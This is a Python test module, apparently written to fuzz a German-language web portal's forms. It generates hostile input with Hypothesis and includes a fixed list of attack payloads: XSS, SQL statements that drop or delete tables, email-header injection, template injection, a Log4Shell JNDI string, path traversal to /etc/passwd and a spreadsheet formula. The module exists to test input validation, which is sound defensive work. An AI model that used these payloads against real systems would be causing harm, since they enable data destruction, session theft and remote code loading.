"""Hypothesis strategies for hostile form input: random unicode, very long strings, HTML/JS,
SQL-looking text, CR/LF (header injection), control characters, odd numbers and dates."""

from __future__ import annotations

import datetime as dt

from hypothesis import strategies as st

XSS = (
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "</textarea><script>alert(2)</script>",
)
NASTY = (
    *XSS,
    "'; DROP TABLE portal_user; --",
    "1 OR 1=1",
    "Robert'); DELETE FROM vouchers_voucher;--",
    "Anfrage\r\nBcc: opfer@example.org",
    "Betreff\nX-Injected: ja",
    "\r\n\r\nHallo",
    "\x00",
    "ab\x00cd",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "ÄÖÜß€ – „Zitat“ · Prozessbegleiter*innen",
    "\u202egnp.exe",
    "\ufeff",
    "🙂" * 40,
    '=HYPERLINK("http://example.org","klick")',
    " ",
    "",
)

# Text a person (or an attacker) might type into any field.
text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=200),
    st.builds(
        lambda c, n: c * n,
        st.sampled_from(["a", "ä", "<", "\n", "🙂", " "]),
        st.integers(1, 20_000),
    ),
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=50)),
)

# The bounds of the database's integer columns, and one beyond each (issue 21, F1).
INTEGER_BOUNDS = [
    "2147483647",
    "2147483648",
    "-2147483648",
    "-2147483649",
    "32767",
    "32768",
    "9223372036854775807",
    "9223372036854775808",
]

# What arrives in a number field.
number = st.one_of(
    st.sampled_from(INTEGER_BOUNDS),
    st.integers(-(10**20), 10**20).map(str),
    st.sampled_from(["-1", "0", "1", "59", "60", "961", "1e9", "NaN", "inf", "-0", "٣", "１２"]),
    text,
)

_date = st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31))
# What arrives in a date field: far past, far future, impossible dates, other formats.
date = st.one_of(
    _date.map(dt.date.isoformat),
    _date.map(lambda d: d.strftime("%d.%m.%Y")),
    st.sampled_from(["0000-00-00", "2026-02-30", "2026-13-01", "31.12.9999", "-1", "heute"]),
    text,
)

email = st.one_of(
    st.emails().map(str),
    st.sampled_from(
        [
            "opfer@example.org\r\nBcc: alle@example.org",
            "a@b",
            "<script>@example.org",
            "x@example.org,y@example.org",
            '"a\\"b"@example.org',
        ]
    ),
    text,
)

checkbox = st.sampled_from(["on", "", "true", "false", "1", "0", "yes", "nein", "<b>"])


def choice(values) -> st.SearchStrategy[str]:
    """A valid option, or anything else."""
    return st.one_of(st.sampled_from([str(v) for v in values]), number, text)
